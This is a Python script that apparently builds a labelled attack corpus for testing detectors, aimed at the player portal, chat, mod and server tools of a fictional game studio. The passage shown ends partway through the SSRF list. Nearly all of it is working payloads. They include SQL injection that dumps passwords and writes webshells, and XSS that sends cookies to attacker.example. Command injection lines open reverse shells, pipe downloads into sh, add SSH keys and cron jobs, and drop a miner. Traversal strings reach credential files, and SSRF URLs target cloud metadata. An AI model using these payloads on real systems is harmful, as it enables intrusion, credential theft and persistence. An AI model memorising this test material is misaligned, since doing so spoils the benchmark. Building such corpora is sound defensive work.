"""Held-out attack corpus "gaming" (ids ha46-NNNNN).

Attack payloads written for the fields of a game studio's player portal, support desk,
mod repository, server browser and in-game chat/reporting tools. Each value is meant
to work against a vulnerable application that puts it where its class says:

  class = "<context>-<technique>[+<encoding>]"

Contexts used here (the vulnerable sink behind each is noted in README.md):
  playername, clantag, chat, report, appeal, guild, bracket, speedrun, matchid,
  leaderboard, listing, search, profile, moddesc, modcfg, modarchive, modurl,
  moddownload, motd, servername, serverhost, mapname, mapload, backupname, rcon,
  whitelist, replay, savefile, skin, avatar(-url), screenshot, logviewer, crashdump,
  webhook-url, stream-url, server-query, support-email, redirect, login, staff-login,
  directory, item, ... and "plain" for bare payloads without domain wrapping.

Everything was written by hand for this corpus (no payload lists, no vendor examples).
Each category is a list of hand-written (class, value) literals, topped up by one
small template over hand-written pools. Deterministic: fixed seed, list iteration only.

Run:  python3 make_attacks.py
"""

import json
import random
from pathlib import Path

SEED = 4602
PREFIX = "ha46"
OUT = Path(__file__).with_name("attacks.jsonl")
BENIGN = Path(__file__).with_name("benign.jsonl")

# ---------------------------------------------------------------------------
# sqli: value concatenated into a SQL statement (player lookup, leaderboard ORDER BY,
# marketplace numeric filters, chat/report INSERTs, search LIKE clauses)
# ---------------------------------------------------------------------------
SQLI = [
    ("playername-tautology", "Malley#2231' OR '1'='1"),
    ("playername-union-select", "xX_Sn1per' UNION SELECT username, password_hash, email FROM accounts-- -"),
    ("chat-stacked-drop", "gg wp'); DROP TABLE chat_messages;--"),
    ("listing-numeric-tautology", "25000 OR 1=1"),
    ("leaderboard-orderby-case-blind", "(CASE WHEN (SELECT substr(password_hash,1,1) FROM admins LIMIT 1)='a' THEN kills ELSE deaths END)"),
    ("report-time-blind-sleep", "Xx_Gank_xX' AND SLEEP(5)-- "),
    ("search-time-blind-pg-sleep", "dragonbone%' AND 1=(SELECT 1 FROM pg_sleep(6))--"),
    ("playername-mssql-waitfor", "Ghost'; WAITFOR DELAY '0:0:7'--"),
    ("matchid-error-extractvalue", "7731-AB-0098' AND extractvalue(1, concat(0x7e, (SELECT version())))-- -"),
    ("clantag-error-updatexml", "VoX' AND updatexml(null, concat(0x3a, (SELECT user())), null)#"),
    ("bracket-oracle-error-utl-inaddr", "Aurora' || (SELECT UTL_INADDR.get_host_name((SELECT banner FROM v$version WHERE rownum=1)) FROM dual) || '"),
    ("leaderboard-sqlite-master-union", "1 UNION SELECT name, sql FROM sqlite_master--"),
    ("search-information-schema-union", "helm' UNION ALL SELECT table_name, column_name FROM information_schema.columns WHERE table_schema=database()-- -"),
    ("playername-boolean-substring", "Nova' AND SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='$'-- "),
    ("search-union+comment-as-space", "'/**/UNION/**/SELECT/**/1,2,concat(login,0x3a,pw)/**/FROM/**/staff#"),
    ("speedrun-insert-subquery", "Sub-24 run!', (SELECT api_key FROM studio_keys LIMIT 1))-- "),
    ("profile-update-privilege", "Lina', is_admin=1 WHERE name='Lina'-- "),
    ("moddesc-into-outfile-webshell", "' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2 INTO OUTFILE '/var/www/html/mods/thumb.php'-- "),
    ("report-mssql-xp-cmdshell", "spam bot'; EXEC master..xp_cmdshell 'ping -n 3 203.0.113.9';--"),
    ("matchid-pg-copy-program", "1; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh';--"),
    ("search-load-file", "ring' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -"),
    ("listing-benchmark-blind", "1 AND BENCHMARK(5000000,MD5('gg'))"),
    ("leaderboard-union+hex", "-1 UNION SELECT 0x61646d696e,0x70617373-- "),
    ("playername-oob-unc-load-file", "Kenji' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.oob.attacker.example\\\\a'))-- "),
    ("search-having-error", "' GROUP BY player_id HAVING 1=1--"),
    ("playername-orderby-column-probe", "Ghost' ORDER BY 9-- -"),
    ("search-like-breakout", "%' OR name LIKE '%"),
    ("listing-pg-json-operator", "1 OR metadata->>'role' = 'admin'"),
    ("playername-double-quote-tautology", "Sn1per\" OR \"\"=\""),
    ("appeal-backslash-escape-bypass", "pls unban\\' OR 1=1-- "),
    ("listing-sqlite-randomblob-delay", "1 AND 1=randomblob(500000000)"),
    ("search-union+case", "' uNiOn SeLeCt null,email,NuLl fRoM accounts-- "),
    ("playername-tautology+url", "%27%20OR%201%3D1--%20"),
    ("search-union+double-url", "%2527%2520UNION%2520SELECT%2520password%2520FROM%2520users--"),
    ("listing-if-sleep-blind", "1 AND IF(ASCII(SUBSTR(DATABASE(),1,1))>100,SLEEP(4),0)"),
    ("matchid-pg-cast-error", "1 AND 1=CAST((SELECT password FROM admins LIMIT 1) AS int)"),
    ("matchid-mssql-convert-error", "1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))"),
    ("clantag-parenthesis-tautology", "Nightwatch') OR ('a'='a"),
    ("report-union-null-padding", "') UNION SELECT NULL,NULL,NULL,token FROM sessions-- "),
    ("listing-in-subquery", "1) OR seller_id IN (SELECT id FROM users WHERE role='admin')-- "),
    ("leaderboard-procedure-analyse", "1 LIMIT 1 PROCEDURE ANALYSE(extractvalue(rand(),concat(0x3a,version())),1)"),
    ("speedrun-pg-dollar-quote-insert", "1; INSERT INTO moderators(name) VALUES ($$Ghost$$);--"),
    ("playername-char-function", "' OR username=CHAR(97,100,109,105,110)-- "),
    ("search-versioned-comment+comment", "1 /*!50000UNION*/ /*!50000SELECT*/ password,2 FROM users-- -"),
    ("playername-tautology+whitespace", "'\tOR\n1=1\n--\t"),
    ("guild-stacked-update", "Sleepless Union'; UPDATE guilds SET owner_id=31337 WHERE name='Dawnbreakers';--"),
    ("listing-stacked-delete", "1; DELETE FROM auction_bids WHERE item_id=48211;--"),
    ("search-sqlite-pragma-table-info", "' UNION SELECT group_concat(name),2 FROM pragma_table_info('users')--"),
    ("report-double-query-error", "cheater' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT email FROM accounts LIMIT 0,1),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- "),
    ("leaderboard-orderby-if", "IF(1=(SELECT COUNT(*) FROM admins WHERE name='root'),kills,wins)"),
    ("appeal-mssql-xp-dirtree-oob", "'; EXEC master..xp_dirtree '\\\\oob.attacker.example\\x';--"),
    ("clantag-hash-comment", "KNGT' OR 1#"),
    ("matchid-union-group-concat", "7731 UNION SELECT 1,2,3,group_concat(username,0x3a,password) FROM users"),
    ("speedrun-pg-conditional-sleep", "1:42:37'||(SELECT CASE WHEN (SELECT current_user)='postgres' THEN pg_sleep(5) ELSE pg_sleep(0) END)||'"),
    ("playername-oracle-all-users", "x' UNION SELECT username, NULL FROM all_users WHERE ROWNUM<5 --"),
    ("search-mssql-add-sysadmin", "helm'; EXEC sp_addsrvrolemember 'gamesvc','sysadmin';--"),
    ("bracket-insert-multirow", "Aurora'), ('Vortex', (SELECT password FROM admins LIMIT 1))-- "),
    ("leaderboard-limit-union", "10 UNION SELECT 1,@@version,3-- "),
    ("search-mysql-json-extract", "x' OR JSON_EXTRACT(profile, '$.role')='admin'-- "),
    ("chat-sqlite-attach-webshell", "gg'); ATTACH DATABASE '/var/www/html/x.php' AS x; CREATE TABLE x.p(t text); INSERT INTO x.p VALUES ('<?php system($_GET[0]); ?>');--"),
    ("playername-regexp-blind", "Ghost' AND (SELECT password FROM users WHERE name='admin') REGEXP '^[a-f]'-- "),
    ("listing-pg-create-superuser", "1; CREATE ROLE backdoor LOGIN SUPERUSER PASSWORD 'fake_pw_123';--"),
    ("search-tautology+html-entity", "&#39; OR &#39;1&#39;=&#39;1"),
    ("speedrun-heavy-join-delay", "1 AND (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B, information_schema.columns C)>0"),
    ("plain-tautology", "' or 1=1--"),
    ("plain-union-select", "' UNION SELECT null, version()--"),
    ("plain-stacked-drop", "1; DROP TABLE players"),
    ("plain-time-blind", "1' AND SLEEP(3)#"),
    ("plain-comment-truncation", "admin'--"),
    ("plain-boolean-false", "1' AND '1'='2"),
    ("plain-mssql-waitfor", "';WAITFOR DELAY '0:0:5'--"),
    ("plain-error-convert", "' AND 1=CONVERT(int,@@version)--"),
]

SQLI_NAMES = ["Ghost", "Lina_R", "Kenji", "Malley#2231", "Zer0", "Bärchen", "Nova", "Reaper"]
SQLI_CONDS = [
    ("boolean-admin-exists", "AND (SELECT COUNT(*) FROM admins)>0"),
    ("time-blind-sleep", "AND SLEEP(6)"),
    ("union-session-tokens", "UNION SELECT token, user_id FROM sessions"),
    ("boolean-length-probe", "AND LENGTH((SELECT password FROM users LIMIT 1))>20"),
    ("or-tautology", "OR 2>1"),
    ("error-exp-overflow", "AND EXP(~(SELECT * FROM (SELECT user())x))"),
]


def gen_sqli(rng):
    tech, cond = rng.choice(SQLI_CONDS)
    name = rng.choice(SQLI_NAMES)
    return f"playername-{tech}", f"{name}' {cond}-- -"


# ---------------------------------------------------------------------------
# xss: value rendered without escaping in the web portal (chat log viewer,
# leaderboard names, mod pages, server browser MOTDs, profile links, inline JS)
# ---------------------------------------------------------------------------
XSS = [
    ("playername-script-cookie-theft", "[xX]_Sn1per_<script>fetch('//attacker.example/c?'+document.cookie)</script>"),
    ("chat-img-onerror", "gg <img src=x onerror=alert(document.domain)>"),
    ("motd-svg-onload-redirect", "Welcome! <svg/onload=location='https://attacker.example/?'+document.cookie>"),
    ("clantag-attr-breakout-iframe", "VoX\"><iframe src=javascript:alert(1)>"),
    ("avatar-url-javascript-uri", "javascript:alert(document.cookie)"),
    ("clantag-attr-event-handler", "KNGT\" onmouseover=\"alert(1)\" data-x=\""),
    ("playername-js-string-breakout", "Kenji';alert(String.fromCharCode(88,83,83));//"),
    ("chat-script-close-reopen", "</script><script>new Image().src='//attacker.example/k?c='+encodeURIComponent(document.cookie)</script>"),
    ("moddesc-markdown-js-link", "[Download v2.0](javascript:fetch('//attacker.example/'+localStorage.getItem('token')))"),
    ("report-details-ontoggle", "see clip <details open ontoggle=alert(1)>"),
    ("motd-body-onload", "<body onload=alert('motd')>"),
    ("guild-input-autofocus", "Recruiting! <input autofocus onfocus=alert(1)>"),
    ("patchnote-js-uri-tab+html-entity", "<a href=\"jav&#x09;ascript:alert(1)\">full patch notes</a>"),
    ("moddesc-mxss-math-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("chat-video-source-onerror", "<video><source onerror=\"alert(1)\"></video>"),
    ("moddesc-object-data-uri+base64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("clantag-style-block-breakout", "red}</style><script>alert(1)</script>"),
    ("motd-svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("chat-marquee-onstart", "<marquee onstart=alert(1)>GG EZ</marquee>"),
    ("report-html-phishing-form", "<form action=https://attacker.example/phish><p>Session expired, log in again</p><input name=user><input type=password name=pw><button>Login</button></form>"),
    ("motd-meta-refresh-redirect", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("moddesc-base-href-hijack", "<base href=\"https://attacker.example/\">"),
    ("playername-angular-template-injection", "{{constructor.constructor('alert(1)')()}}"),
    ("chat-img-atob-eval+base64", "<img src=1 onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("moddesc-json-embedded-script+unicode", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("search-reflected-script+url", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("playername-script+case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("chat-img-tagged-template+case", "<img src=x oNeRrOr=alert`1`>"),
    ("motd-svg-script-entity+html-entity", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("moddesc-iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>"),
    ("report-data-uri-link", "<a href=\"data:text/html,<script>alert(1)</script>\">replay link</a>"),
    ("moddesc-embed-js-uri", "<embed src=javascript:alert(1)>"),
    ("moddesc-style-import-exfil", "<style>@import 'https://attacker.example/x.css';</style>"),
    ("motd-link-stylesheet", "<link rel=stylesheet href=//attacker.example/steal.css>"),
    ("guild-select-autofocus", "<select autofocus onfocus=alert(1)>"),
    ("appeal-textarea-autofocus", "<textarea autofocus onfocus=alert(1)>"),
    ("chat-audio-onerror", "<audio src onerror=alert(1)>"),
    ("moddesc-svg-xlink-href", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">Claim free reward</text></a></svg>"),
    ("motd-fullscreen-overlay-handler", "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\" onmouseover=\"alert(1)\">"),
    ("moddesc-mxss-noscript-title", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("chat-contenteditable-onblur", "<x contenteditable onblur=alert(1)>click me then click away"),
    ("playername-object-js-uri", "<object data=javascript:alert(1)>"),
    ("playername-js-arith-breakout", "'-alert(1)-'"),
    ("playername-js-backslash-breakout", "\\';alert(1);//"),
    ("servername-title-breakout", "</title><script>alert(1)</script>"),
    ("bugreport-textarea-breakout", "</textarea><script>alert(1)</script>"),
    ("moddesc-html-comment-breakout", "--><script>alert(1)</script><!--"),
    ("profile-link-js-uri-newline+url", "javascript://%0Aalert(1)"),
    ("profile-link-js-uri+case", "JaVaScRiPt:alert(1)"),
    ("profile-link-js-uri+html-entity", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    ("chat-img-identifier-escape+unicode", "<img src=x onerror=\\u0061lert(1)>"),
    ("motd-svg-settimeout-concat", "<svg onload=setTimeout('al'+'ert(1)')>"),
    ("chat-img-bracket-notation", "<img src=x onerror=window['al'+'ert'](1)>"),
    ("chat-img-regex-source-concat", "<img src=x onerror=top[/al/.source+/ert/.source](1)>"),
    ("moddesc-external-script", "Requires CoreLib <script src=//attacker.example/h.js></script>"),
    ("report-document-write-exfil", "<script>document.write('<img src=//attacker.example/?'+document.cookie+'>')</script>"),
    ("moddesc-svg-foreignobject-iframe", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>"),
    ("moddesc-button-formaction", "<form id=f></form><button form=f formaction=javascript:alert(1)>Download</button>"),
    ("chat-img-csrf-email-change", "<img src=x onerror=\"fetch('/api/account/email',{method:'POST',credentials:'include',body:'email=owned@attacker.example'})\">"),
    ("moddesc-dynamic-import", "<img src=x onerror=import('//attacker.example/m.js')>"),
    ("moddesc-markdown-img-attr-breakout", "![screenshot](x\" onerror=\"alert(1))"),
    ("forum-bbcode-url-js-uri", "[url=javascript:alert(document.cookie)]Free skins here[/url]"),
    ("forum-bbcode-img-attr-breakout", "[img]x\" onerror=\"alert(1)[/img]"),
    ("chat-emote-img-onload", ":pog: <img src=/emotes/pog.png onload=alert(1)>"),
    ("playername-unquoted-attr-autofocus", "x onfocus=alert(1) autofocus"),
    ("motd-json-in-script-breakout", "\"}</script><svg onload=alert(1)>"),
    ("plain-script-alert", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg onload=alert(1)>"),
    ("plain-js-uri", "javascript:alert(1)"),
    ("plain-iframe-js-uri", "<iframe src=\"javascript:alert(1)\"></iframe>"),
    ("plain-body-onload-cookie", "<body onload=alert(document.cookie)>"),
    ("plain-attr-breakout-script", "\"><script>alert(1)</script>"),
]

XSS_PREFIXES = ["gg wp", "lol", "[WTS] Frost Lance", "Welcome to Pinecrest!", "o7", "report:"]
XSS_VECTORS = [
    ("img-onerror-cookie", "<img src=/x onerror=\"new Image().src='//attacker.example/?c='+document.cookie\">"),
    ("svg-onload-fetch", "<svg onload=fetch('//attacker.example/?'+document.cookie)>"),
    ("iframe-onload", "<iframe onload=alert(document.domain)></iframe>"),
    ("input-onfocus", "<input onfocus=alert(1) autofocus>"),
]


def gen_xss(rng):
    tech, vec = rng.choice(XSS_VECTORS)
    return f"chat-{tech}", f"{rng.choice(XSS_PREFIXES)} {vec}"


# ---------------------------------------------------------------------------
# cmdi: value placed in a shell line by server tooling (ping/query a server host,
# start a map, tar a backup, screen session names, rcon wrappers, mod unpacking)
# ---------------------------------------------------------------------------
CMDI = [
    ("serverhost-semicolon-chain", "play.pinecrest.example; cat /etc/passwd"),
    ("serverhost-and-curl-pipe-sh", "192.168.0.50 && curl -s http://attacker.example/p.sh | sh"),
    ("mapname-pipe-nc-reverse-shell", "de_dust2 | nc 203.0.113.7 4444 -e /bin/sh"),
    ("servername-subshell", "Pinecrest$(id)"),
    ("servername-backticks-download", "Frostbite RP `wget -qO- http://attacker.example/x | sh`"),
    ("mapname-bash-dev-tcp", "map_harbor;bash -i >& /dev/tcp/203.0.113.7/9001 0>&1"),
    ("backupname-ifs-space", "world;cat${IFS}/etc/shadow"),
    ("backupname-newline-separator", "backup_2024-03-02\n/bin/sh -c 'id > /tmp/pwn'"),
    ("modarchive-single-quote-breakout", "savegame.zip'; rm -rf /srv/game/world; echo '"),
    ("rcon-double-quote-breakout", "Steve\"; touch /tmp/owned; echo \""),
    ("winhost-ampersand-type", "eu1.ashfall.example & type C:\\Windows\\win.ini"),
    ("winhost-pipe-powershell-iex", "127.0.0.1 | powershell -nop -c \"iwr http://attacker.example/a.ps1 | iex\""),
    ("winhost-certutil-download-exec", "127.0.0.1 & certutil -urlcache -split -f http://attacker.example/b.exe %TEMP%\\b.exe & %TEMP%\\b.exe"),
    ("winhost-comspec-whoami", "localhost & %COMSPEC% /c whoami"),
    ("serverhost-nested-subshell-exfil", "$(curl attacker.example/$(whoami))"),
    ("modurl-git-upload-pack-option", "--upload-pack=touch${IFS}/tmp/pwned ssh://git@mods.ashfall.example/x.git"),
    ("modarchive-tar-checkpoint-action", "mods.tar --checkpoint=1 --checkpoint-action=exec='sh shell.sh'"),
    ("replay-find-exec-option", "replays -exec sh -c 'curl attacker.example/r|sh' \\;"),
    ("modarchive-zip-unzip-command-option", "x.zip -T -TT 'sh -c id;'"),
    ("backupname-rsync-remote-shell-option", "-e 'sh -c \"id>/tmp/r\"' x:"),
    ("serverhost-ssh-proxycommand-option", "-oProxyCommand=sh -c 'curl attacker.example|sh'"),
    ("mapname-python-reverse-shell", "harbor; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("serverhost-sleep-timing", "10.0.0.12;sleep 10"),
    ("serverhost-or-ping-timing", "nonexistent.host || ping -c 10 127.0.0.1"),
    ("mapname-backtick-dns-exfil", "cp_badlands `nslookup $(hostname).oob.attacker.example`"),
    ("serverhost-newline+url", "127.0.0.1%0Aid"),
    ("serverhost-semicolon+url", "1.1.1.1%3B%20cat%20%2Fetc%2Fpasswd"),
    ("backupname-quote-split-obfuscation", "x;c'a't /e't'c/p'a's's'w'd"),
    ("backupname-glob-obfuscation", "x;/???/c?t /???/p?ss??"),
    ("servername-base64-decode-pipe+base64", "$(echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh)"),
    ("mapname-brace-expansion", "x;{cat,/etc/passwd}"),
    ("mapname-ansi-c-quoting+hex", "x;$'\\x63\\x61\\x74' /etc/passwd"),
    ("backupname-backslash-obfuscation", "a;c\\at /et\\c/pas\\swd"),
    ("rcon-authorized-keys-persistence", "x\"; echo 'ssh-ed25519 AAAAC3FAKEFAKEFAKE attacker@attacker.example' >> ~/.ssh/authorized_keys; echo \""),
    ("servername-crontab-persistence", "x; (crontab -l; echo '* * * * * curl -s attacker.example/c|sh') | crontab -"),
    ("serverhost-suid-shell", "127.0.0.1 && chmod u+s /bin/bash"),
    ("backupname-world-exfil", "world_backup; tar cz /srv/game | curl -T - https://attacker.example/up"),
    ("serverhost-bind-shell", "127.0.0.1 | nc -lvnp 4444 -e /bin/bash"),
    ("servername-kill-all-processes", "x; kill -9 -1"),
    ("mapname-subshell-reboot", "$(reboot)"),
    ("servername-backtick-uname", "Ravenholm`uname -a`"),
    ("serverhost-redirect-comment", "127.0.0.1 > /dev/null; id #"),
    ("modcfg-node-child-process", "x; node -e \"require('child_process').exec('id > /tmp/n')\""),
    ("modcfg-php-cli-system", "x; php -r 'system(\"id\");'"),
    ("serverhost-busybox-nc", "8.8.8.8 && busybox nc 203.0.113.7 80 -e sh"),
    ("winhost-net-user-add", "127.0.0.1 & net user support2 Fake_Passw0rd! /add & net localgroup administrators support2 /add"),
    ("winhost-pipe-whoami-priv", "127.0.0.1 | whoami /priv"),
    ("winhost-powershell-encoded+base64", "127.0.0.1 & powershell -EncodedCommand dwBoAG8AYQBtAGkA"),
    ("serverhost-miner-dropper", "x; wget http://198.51.100.23/xmrig -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x -o pool.attacker.example:3333"),
    ("whitelist-semicolon-pipe-bash", "Lina; curl http://attacker.example/wl.sh | bash"),
    ("replay-filename-subshell", "match_7731.rpl$(curl -s attacker.example/f | sh)"),
    ("servername-env-exfil", "Pinecrest; env | curl -d @- http://attacker.example/e"),
    ("mapname-perl-reverse-shell", "x; perl -MIO::Socket -e '$c=IO::Socket::INET->new(\"203.0.113.7:4444\");open(STDIN,\"<&\",$c);open(STDOUT,\">&\",$c);exec(\"/bin/sh -i\")'"),
    ("backupname-ifs-and", "x${IFS}&&${IFS}id"),
    ("rcon-say-subshell", "say hello $(id)"),
    ("serverhost-ipv6-semicolon", "::1;id"),
    ("winhost-caret-obfuscation", "127.0.0.1 & w^h^o^a^m^i"),
    ("winhost-env-substring-obfuscation", "127.0.0.1 & %SYSTEMROOT:~0,1%md /c whoami"),
    ("serverhost-curl-config-upload", "127.0.0.1; curl -F 'f=@/srv/game/server.cfg' http://attacker.example/u"),
    ("servername-awk-system", "x; awk 'BEGIN{system(\"id\")}'"),
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-cat-passwd", "| cat /etc/passwd"),
    ("plain-subshell-whoami", "$(whoami)"),
    ("plain-backtick-uname", "`uname -a`"),
    ("plain-and-ls-root", "&& ls -la /"),
    ("plain-win-ampersand-dir", "& dir C:\\"),
    ("plain-newline-id", "\nid"),
]

CMDI_HOSTS = ["eu1.ashfall.example", "192.168.0.50", "play.pinecrest.example:25565", "10.0.0.12",
              "ravenholm.gg.example"]
CMDI_SEPS = [("semicolon", "; "), ("and", " && "), ("pipe", " | "), ("or", " || "),
             ("newline", "\n")]
CMDI_CMDS = ["id", "cat /etc/passwd", "curl -s attacker.example/s | sh", "sleep 8",
             "wget -qO /tmp/a http://198.51.100.23/a"]


def gen_cmdi(rng):
    sname, sep = rng.choice(CMDI_SEPS)
    return f"serverhost-{sname}-chain", f"{rng.choice(CMDI_HOSTS)}{sep}{rng.choice(CMDI_CMDS)}"


# ---------------------------------------------------------------------------
# traversal: value joined to a base directory (mod downloads, save imports, skins,
# map loading, replays, crash dumps, log viewer, screenshots, zip entry names)
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("moddownload-dotdot-passwd", "../../../../etc/passwd"),
    ("mapload-prefixed-dotdot", "maps/../../../../../etc/shadow"),
    ("savefile-windows-backslash", "..\\..\\..\\Windows\\win.ini"),
    ("replay-proc-environ", "replays/2024/../../../../proc/self/environ"),
    ("moddownload-dotdot+url", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("skin-dotdot+double-url", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("logviewer-dotdot-slash+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("screenshot-nested-strip-bypass", "....//....//....//etc/passwd"),
    ("crashdump-semicolon-path-param", "..;/..;/manager/html"),
    ("avatar-null-byte-extension+url", "../../../../etc/passwd%00.png"),
    ("savefile-windows-sam-hive", "C:\\ProgramData\\..\\Windows\\System32\\config\\SAM"),
    ("savefile-root-ssh-key", "/var/lib/ashfall/saves/../../../../root/.ssh/id_rsa"),
    ("moddownload-app-secrets", "mods/../../server/config/secrets.yml"),
    ("skin-partial-encoded-slash+url", "skins/..%2f..%2f..%2fconfig%2fdatabase.yml"),
    ("modarchive-zip-slip-entry", "../../../../../srv/game/plugins/evil.jar"),
    ("moddownload-iis-web-config", "..\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("replay-proc-cmdline", "../../../../proc/self/cmdline"),
    ("moddownload-dotenv", "../.env"),
    ("modrepo-git-config", "../../../.git/config"),
    ("savefile-backslash+url", "..%5c..%5c..%5cWindows%5cwin.ini"),
    ("skin-iis-percent-u+unicode", "..%u2216..%u2216..%u2216windows%u2216win.ini"),
    ("logviewer-mixed-separators", "..\\/..\\/..\\/etc/passwd"),
    ("crashdump-encoded-dots+url", "/%2e%2e/%2e%2e/%2e%2e/etc/hosts"),
    ("screenshot-dot-slash-strip-bypass", "screenshots/..././..././..././etc/passwd"),
    ("replay-proc-fd", "../../../../proc/self/fd/3"),
    ("logviewer-access-log-inclusion", "../../../../var/log/nginx/access.log"),
    ("modpage-php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("savefile-steam-loginusers", "../../../../home/steam/.steam/steam/config/loginusers.vdf"),
    ("savefile-windows-steam-config", "..\\..\\..\\..\\Program Files (x86)\\Steam\\config\\config.vdf"),
    ("crashdump-backslash+double-url", "..%255c..%255c..%255cWindows%255cwin.ini"),
    ("skin-fullwidth-solidus+unicode", "..／..／..／etc／passwd"),
    ("skin-fullwidth-solidus+url", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd"),
    ("logviewer-dots+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("static-prefixed-dotdot", "/static/../../../../../../etc/passwd"),
    ("savefile-double-backslash-strip-bypass", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("mapload-ntfs-ads-source", "..\\..\\..\\inetpub\\wwwroot\\default.aspx::$DATA"),
    ("replay-unc-path", "\\\\203.0.113.5\\share\\payload.rpl"),
    ("savefile-k8s-serviceaccount-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("moddownload-aws-credentials", "../../../../root/.aws/credentials"),
    ("logviewer-absolute-windows", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("modarchive-zip-slip-startup", "..\\..\\..\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\update.bat"),
    ("avatar-upload-authorized-keys", "../../../../home/gamesvc/.ssh/authorized_keys"),
    ("moddownload-semicolon-encoded+url", "..%3B/..%3B/admin/config.json"),
    ("plain-dotdot-passwd", "../../../etc/passwd"),
    ("plain-absolute-passwd", "/etc/passwd"),
    ("plain-windows-win-ini", "..\\..\\..\\..\\windows\\win.ini"),
    ("plain-dotdot-shadow", "../../../../../../etc/shadow"),
    ("plain-proc-self-environ", "/proc/self/environ"),
]

TRAV_FOLDERS = ["mods", "saves/slot1", "skins/custom", "replays/2024-03", "maps/workshop"]
TRAV_TARGETS = [("passwd", "etc/passwd"), ("server-cfg", "srv/game/server.cfg"),
                ("hostname", "etc/hostname"), ("ssh-host-key", "etc/ssh/ssh_host_ed25519_key")]


def gen_traversal(rng):
    tname, target = rng.choice(TRAV_TARGETS)
    depth = rng.randint(4, 8)
    return f"filepath-prefixed-dotdot-{tname}", f"{rng.choice(TRAV_FOLDERS)}/{'../' * depth}{target}"


# ---------------------------------------------------------------------------
# ssrf: value is a URL/host the server fetches or queries (avatar import, mod
# download by URL, Discord-style webhooks, stream link previews, server browser query)
# ---------------------------------------------------------------------------
SSRF = [
    ("avatar-url-aws-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("webhook-url-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("modurl-loopback-admin", "http://127.0.0.1:8080/admin/shutdown"),
    ("server-query-redis", "http://localhost:6379/"),
    ("webhook-url-gopher-redis", "gopher://127.0.0.1:6379/_SET%20motd%20pwned%0D%0ACONFIG%20SET%20dir%20/var/www/html%0D%0ASAVE%0D%0A"),
    ("server-query-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("avatar-url-file-scheme", "file:///etc/passwd"),
    ("avatar-url-decimal-ip+alt-ip", "http://2130706433/"),
    ("modurl-hex-ip+alt-ip", "http://0x7f000001/admin"),
    ("stream-url-octal-ip+alt-ip", "http://0177.0.0.1/"),
    ("server-query-ipv6-loopback-rcon", "http://[::1]:25575/"),
    ("avatar-url-ipv4-mapped-ipv6+alt-ip", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("modurl-dns-rebind-internal", "http://169-254-169-254.rebind.attacker.example/latest/meta-data/"),
    ("avatar-url-userinfo-confusion", "http://cdn.ashfall.example@127.0.0.1/"),
    ("avatar-url-fragment-confusion", "http://127.0.0.1#@cdn.ashfall.example/avatar.png"),
    ("avatar-url-suffix-allowlist-bypass", "https://cdn.ashfall.example.attacker.example/r?u=http://169.254.169.254/"),
    ("stream-url-open-redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/user-data"),
    ("server-query-zero-address", "http://0.0.0.0:9000/"),
    ("modurl-short-ip+alt-ip", "http://127.1/server-status"),
    ("webhook-url-docker-api", "http://localhost:2375/containers/json"),
    ("modurl-consul-agent", "http://10.0.0.5:8500/v1/agent/self"),
    ("webhook-url-kubernetes-secrets", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("avatar-url-ecs-credentials", "http://169.254.170.2/v2/credentials/"),
